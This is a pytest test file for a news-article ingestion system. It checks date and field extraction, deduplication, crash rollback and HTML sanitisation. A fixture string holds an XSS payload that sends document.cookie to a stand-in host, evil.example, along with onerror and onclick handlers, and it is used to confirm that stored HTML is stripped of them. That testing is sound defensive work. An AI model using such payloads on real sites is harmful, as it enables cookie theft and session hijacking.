import pytest

from dateline.gather.page import RawPage
from dateline.store import ingest
from dateline.store.ingest import DOCUMENT_COUNT, ingest_page
from dateline.store.models import Article, Publisher, TermStat
from tests.paths import DEMO
from tests.store.fixtures import import_path

HOSTILE = """<html><head><title>Council approves budget</title>
<script>document.location='https://evil.example/?c='+document.cookie</script></head>
<body><article><h1>Council approves budget</h1>
<p onclick="steal()">The city council approved the annual budget on Tuesday after a long debate
about road repairs, school funding and the cost of the new library.</p>
<p>Members voted nine to two. <img src=x onerror="alert(1)"> The mayor said the budget was balanced
and that property taxes would not rise this year, despite higher costs for energy.</p>
<script>alert('inline')</script>
<p>The budget takes effect on the first of July and will be published on the city website.</p>
</article></body></html>"""


def test_demo_import_is_idempotent(demo_articles):
    assert len(demo_articles) == 120
    assert {a.publisher.name for a in demo_articles} == {"Wikinews"}
    again = import_path(DEMO)
    assert {r.status for r in again} == {"present"}
    assert Article.objects.count() == 120
    assert TermStat.objects.get(term=DOCUMENT_COUNT).df == 120


def test_demo_articles_keep_their_claims_and_our_first_seen(demo_articles):
    article = Article.objects.get(title="Apple to lower UK iTunes prices")
    assert article.claimed_date.date().isoformat() == "2008-01-09"
    assert article.canonical_url == "https://en.wikinews.org/wiki/Apple_to_lower_UK_iTunes_prices"
    assert article.first_seen_at > article.claimed_date
    assert article.body_text.startswith("The European Commission has forced Apple Inc.")
    assert article.language == "en"


def test_the_example_page_is_understood(example_article):
    a = example_article
    assert a.title == (
        "North Korea stresses alignment with Russia against US and says Putin "
        "could visit at an early date"
    )
    assert a.publisher.name == "Excel Wealth Summit"
    assert a.claimed_date.isoformat() == "2025-04-07T02:07:50+00:00"
    assert (a.dateline_place, a.credit) == ("Seoul, South Korea", "AP")
    paragraphs = a.body_text.split("\n\n")
    assert len(paragraphs) == 13
    assert paragraphs[0].startswith("SEOUL, South Korea (AP) — North Korea said Sunday")
    assert paragraphs[-1].endswith("as a nuclear weapons state.")
    assert "Oscars" not in a.body_text and "veryGood" not in a.body_text


def test_stored_html_is_sanitised(db):
    result = ingest_page(
        RawPage(
            origin="hostile.html", kind="html", content=HOSTILE, url="https://city.example/budget"
        )
    )
    assert result.status == "imported", result.reason
    html = Article.objects.get(key=result.key).body_html
    assert "<p>" in html
    for bad in ("<script", "onclick", "onerror", "document.cookie", "alert("):
        assert bad not in html


def test_a_crash_mid_write_leaves_nothing_half_written(db, monkeypatch):
    page = RawPage(
        origin="hostile.html", kind="html", content=HOSTILE, url="https://city.example/b"
    )

    def crash(terms, day=None):
        raise RuntimeError("power cut")

    monkeypatch.setattr(ingest, "count_document", crash)
    with pytest.raises(RuntimeError):
        ingest_page(page)
    assert Article.objects.count() == 0 and not TermStat.objects.exists()
    assert not Publisher.objects.exists()
    monkeypatch.undo()
    assert ingest_page(page).status == "imported"
    assert ingest_page(page).status == "present"
    assert Article.objects.count() == 1


def test_same_canonical_url_is_the_same_article(db):
    first = HOSTILE.replace(
        "<head>", '<head><link rel="canonical" href="https://city.example/budget">'
    )
    edited = first.replace("nine to two", "ten to one")
    assert ingest_page(RawPage("a.html", "html", first)).status == "imported"
    assert ingest_page(RawPage("b.html", "html", edited)).status == "present"


@pytest.mark.parametrize(
    ("content", "reason"),
    [("", "empty"), ("   \n ", "empty"), ("<html><body><nav>Home</nav></body></html>", "")],
)
def test_pages_without_articles_fail_with_a_reason(db, content, reason):
    result = ingest_page(RawPage("x.html", "html", content))
    assert result.status == "failed"
    assert reason in result.reason and result.reason
    assert Article.objects.count() == 0
